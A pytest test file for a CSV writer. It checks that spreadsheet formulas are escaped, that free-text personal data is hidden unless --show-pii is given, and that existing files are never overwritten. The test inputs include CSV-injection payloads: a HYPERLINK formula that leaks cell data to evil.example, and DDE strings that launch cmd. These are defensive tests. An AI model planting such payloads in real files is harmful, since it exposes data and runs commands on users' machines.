"""The one CSV writer: nothing a spreadsheet would evaluate, no free text without --show-pii, never
an overwrite."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from metrics_lib.data import contract as C
from metrics_lib.data.csv_out import HIDDEN, free_text_columns, safe_cell, write_csv


@pytest.mark.parametrize(
    "cell, written",
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+cmd|' /C notepad'!'A1'", "'+cmd|' /C notepad'!'A1'"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("-5", "-5"),  # plain numbers stay numbers
        ("+3.5", "+3.5"),
        ("-1e3", "-1e3"),
        ("a = b", "a = b"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(cell, written):
    assert safe_cell(cell) == written


def test_the_contract_marks_the_free_text_columns():
    assert {(t, c.name) for t, spec in C.TABLES.items() for c in spec.columns if c.free_text} == {
        ("surveys", "comment"),
        ("reviews", "text"),
    }
    assert free_text_columns("surveys") == ["comment"] and free_text_columns(None) == []


@pytest.fixture
def rejected():
    return pd.DataFrame(
        {
            "line": [3, 4],
            "reason": ["score: value below the minimum 0", "score: value above the maximum 10"],
            "response_id": ['=HYPERLINK("http://x")', "S3"],
            "score": pd.array([-5, 11], dtype="Int64"),
            "touchpoint": ["@SUM(A1:A9)", "-5"],
            "comment": ["call me on +44 20 7946 0000 or a.b@example.com", None],
            "weight": [-5.0, 2.5],
        }
    )


def _rows(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_formulas_are_neutralised_numbers_kept_and_free_text_hidden(tmp_path, rejected):
    path = write_csv(rejected, tmp_path / "surveys.csv", table="surveys")
    first, second = _rows(path)
    assert first["response_id"] == '\'=HYPERLINK("http://x")'
    assert first["touchpoint"] == "'@SUM(A1:A9)"
    assert first["score"] == "-5" and first["weight"] == "-5.0" and second["touchpoint"] == "-5"
    assert (
        first["comment"]
        == HIDDEN
        == "(hidden: free text may hold personal data; run with --show-pii to keep it)"
    )
    assert second["comment"] == ""  # nothing to hide
    assert "example.com" not in path.read_text(encoding="utf-8")


def test_show_pii_keeps_the_free_text(tmp_path, rejected):
    path = write_csv(rejected, tmp_path / "surveys.csv", table="surveys", show_pii=True)
    assert _rows(path)[0]["comment"] == "call me on +44 20 7946 0000 or a.b@example.com"
    rejected.loc[1, "comment"] = "=1+1"
    path = write_csv(rejected, tmp_path / "again.csv", table="surveys", show_pii=True)
    assert _rows(path)[1]["comment"] == "'=1+1"  # kept, but still not a formula


def test_an_existing_file_is_never_overwritten(tmp_path, rejected):
    path = tmp_path / "surveys.csv"
    path.write_text("mine\n")
    with pytest.raises(FileExistsError):
        write_csv(rejected, path, table="surveys")
    assert path.read_text() == "mine\n"
